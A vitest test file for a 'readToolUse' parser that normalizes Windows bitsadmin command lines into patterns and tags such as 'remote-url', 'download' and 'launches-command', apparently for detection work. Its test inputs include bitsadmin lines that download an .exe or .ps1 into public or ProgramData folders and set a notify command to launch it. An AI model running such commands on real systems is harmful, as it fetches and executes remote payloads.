import { describe, expect, test } from 'vitest'
import { readToolUse } from './read-tool-use'

describe('bitsadmin', () => {
  test.each([
    [
      'bitsadmin /transfer job7 http://10.1.2.3/a.exe C:\\Users\\Public\\a.exe',
      'bitsadmin /transfer <job> http://<ip>/*.exe <public>\\a.exe',
      'bitsadmin|transfer|url|exe',
      ['remote-url', 'address-host', 'download'],
      null,
    ],
    [
      'bitsadmin /transfer myjob /download /priority high https://example.com/a.exe %TEMP%\\a.exe',
      'bitsadmin /transfer <job> /download /priority high https://example.com/*.exe <user-temp>\\*.exe',
      'bitsadmin|transfer|url|exe',
      ['remote-url', 'download'],
      null,
    ],
    ['bitsadmin /create 1', 'bitsadmin /create <job>', 'bitsadmin|create|-|-', [], null],
    [
      'bitsadmin /addfile 1 https://example.com/a.ps1 C:\\ProgramData\\a.ps1',
      'bitsadmin /addfile <job> https://example.com/*.ps1 <program-data-root>\\a.ps1',
      'bitsadmin|addfile|url|ps1',
      ['remote-url', 'download'],
      null,
    ],
    [
      'bitsadmin /SetNotifyCmdLine 1 C:\\ProgramData\\a.exe NULL',
      'bitsadmin /setnotifycmdline <job> <program-data-root>\\a.exe null',
      'bitsadmin|setnotifycmdline|program-data-root|exe',
      ['launches-command', 'program-data-root'],
      null,
    ],
    ['bitsadmin /resume j', 'bitsadmin /resume <job>', 'bitsadmin|resume|-|-', [], null],
    [
      'bitsadmin /rawreturn /complete j',
      'bitsadmin /rawreturn /complete <job>',
      'bitsadmin|complete|-|-',
      [],
      null,
    ],
    ['bitsadmin /list /allusers', 'bitsadmin /list /allusers', 'bitsadmin|list|-|-', [], null],
    ['bitsadmin', 'bitsadmin', 'bitsadmin|none|-|-', [], null],
  ])('%s', (line, pattern, shape, facts, hosted) => {
    expect(readToolUse('bitsadmin.exe', line, 'C:\\Windows\\System32\\bitsadmin.exe')).toMatchObject({
      pattern,
      shape,
      facts,
      hosted,
    })
  })
})
